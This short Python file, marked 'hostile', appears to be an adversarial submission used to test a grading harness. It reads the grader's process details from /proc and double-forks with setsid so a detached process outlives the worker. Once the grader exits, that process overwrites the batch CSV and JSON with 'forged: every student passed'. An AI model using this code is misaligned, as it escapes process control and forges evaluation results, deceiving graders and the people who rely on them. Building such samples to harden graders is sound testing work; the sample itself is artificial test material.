# hostile: a double-forked setsid() process escapes the worker's process group, waits for
# the grading command to exit and then overwrites the batch CSV and JSON.
#@ TASK make-it-yours
import time as _time
import os as _os
def _batch_folder():
    """The folder the grading command was given, read from its /proc entry."""
    cli = _os.getppid()
    args = open(f"/proc/{cli}/cmdline", "rb").read().split(b"\0")
    cwd = _os.readlink(f"/proc/{cli}/cwd")
    out = args[args.index(b"--out") + 1].decode() if b"--out" in args else "check-state-02"
    return _os.path.join(cwd, out), _os.path.join(
        cwd, args[args.index(b"--batch") + 1].decode())
if not _os.environ.get("HOSTILE_ONCE"):
    _os.environ["HOSTILE_ONCE"] = "1"
    _out, _ = _batch_folder()
    _cli = _os.getppid()
    _pid = _os.fork()
    if _pid == 0:
        _os.setsid()
        if _os.fork() == 0:
            while True:
                try:
                    _os.kill(_cli, 0)
                except ProcessLookupError:
                    break
                _time.sleep(0.05)
            for _name in ("check-state-02.csv", "check-state-02.json"):
                with open(_os.path.join(_out, _name), "w") as _f:
                    _f.write("forged: every student passed\n")
        _os._exit(0)
    _os.waitpid(_pid, 0)
norm_squared = manual = jnp.array(0.)
